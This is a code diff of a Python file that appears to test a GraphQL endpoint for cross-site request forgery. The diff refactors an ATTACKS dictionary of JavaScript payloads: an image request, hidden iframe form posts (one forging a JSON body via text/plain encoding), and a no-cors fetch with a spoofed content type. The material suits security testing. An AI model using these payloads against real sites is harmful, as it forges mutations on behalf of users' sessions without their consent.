@@ -21,6 +21,20 @@ mutation {
 """
 QUERY = MUTATION % REPOSITORY
 
+FORM = """
+        new Promise(done => {
+            const frame = document.createElement('iframe');
+            frame.name = 'answer';
+            document.body.append(frame);
+            const form = document.createElement('form');
+            form.method = 'POST';
+            form.target = 'answer';
+            %s
+            document.body.append(form);
+            frame.onload = () => done('answered');
+            form.submit();
+        })
+"""
 ATTACKS = {
     "image": """
         new Promise(done => {
@@ -29,39 +43,16 @@ ATTACKS = {
             image.src = URL + '?' + QUERY_STRING;
         })
     """,
-    "form": """
-        new Promise(done => {
-            const frame = document.createElement('iframe');
-            frame.name = 'answer';
-            document.body.append(frame);
-            const form = document.createElement('form');
-            form.method = 'POST';
+    "form": FORM
+    % """
             form.action = URL;
-            form.target = 'answer';
             form.enctype = 'text/plain';
             const field = document.createElement('input');
             field.name = BODY.slice(0, -1) + ', "extra": "';
             field.value = '"}';
             form.append(field);
-            document.body.append(form);
-            frame.onload = () => done('answered');
-            form.submit();
-        })
     """,
-    "form with a question in its address": """
-        new Promise(done => {
-            const frame = document.createElement('iframe');
-            frame.name = 'answer';
-            document.body.append(frame);
-            const form = document.createElement('form');
-            form.method = 'POST';
-            form.action = URL + '?' + QUERY_STRING;
-            form.target = 'answer';
-            document.body.append(form);
-            frame.onload = () => done('answered');
-            form.submit();
-        })
-    """,
+    "form with a question in its address": FORM % "form.action = URL + '?' + QUERY_STRING;",
     "fetch without an answer": """
         fetch(URL, {method: 'POST', mode: 'no-cors', body: BODY,
                     headers: {'Content-Type': 'text/plain;charset=application/json'}})
